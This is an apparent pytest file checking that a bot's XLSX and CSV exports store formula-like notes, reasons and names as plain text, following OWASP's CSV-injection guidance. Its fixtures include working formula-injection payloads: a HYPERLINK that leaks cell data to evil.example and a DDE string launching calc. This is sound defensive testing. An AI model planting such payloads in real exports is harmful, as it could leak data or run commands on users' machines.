"""Formula injection: notes, reasons and names that start like a formula are written as text, never as formulas,
in the workbook and in the CSV (OWASP's CSV-injection rules)."""

from __future__ import annotations

import csv
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from bot.app import App
from bot.domain.period import parse_period
from bot.render.workbook import export_csv, export_xlsx
from bot.services.figures import Entry, submit
from bot.services.plans import active_plan

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1, "点击查看")'
EVIL = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1"]
AS_OF = date(2018, 10, 15)


def at(day: int, hour: int) -> datetime:
    return datetime(2018, 10, day, hour, tzinfo=ZoneInfo("Asia/Shanghai"))


def seed(app: App) -> None:
    """A figure entered with a formula as its note by someone named like a formula, corrected with formulas as
    reasons."""
    with app.uow() as s:
        _, plan = active_plan(s)
    unit, ind, period = plan.unit("panshan"), plan.indicator("hightech_enterprises"), parse_period("2018Q3")
    submit(app.uow, Entry(unit, ind, period, Decimal(10), note=LEAK), "@attacker", "cli", at(9, 9))
    for n, reason in enumerate(EVIL, 11):
        submit(app.uow, Entry(unit, ind, period, Decimal(n), reason=reason), "=1+2", "cli", at(10, n - 2))


def test_the_workbook_holds_every_free_text_as_text_and_no_formula(app: App, tmp_path: Path) -> None:
    seed(app)
    path = tmp_path / "out.xlsx"
    with app.uow() as s:
        row, plan = active_plan(s)
        export_xlsx(s, row, plan, AS_OF, path, "zh")
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells}
    for evil in [*EVIL, "@attacker", "=1+2"]:
        assert evil in texts, evil  # kept as written, word for word
        assert texts[evil].data_type == "s" and texts[evil].quotePrefix, evil


def test_the_csv_prefixes_text_that_a_spreadsheet_would_evaluate(app: App, tmp_path: Path) -> None:
    seed(app)
    path = tmp_path / "out.csv"
    with app.uow() as s:
        row, plan = active_plan(s)
        export_csv(s, row, plan, AS_OF, path, "zh")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    panshan = next(r for r in rows if r[2] == "panshan")
    assert panshan[7] == "'=1+2"  # entered by
    assert panshan[5] == "15"  # numbers stay numbers
    risky = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
    assert not [cell for r in rows for cell in r if cell.startswith(risky) and not cell.lstrip("-").isdigit()]
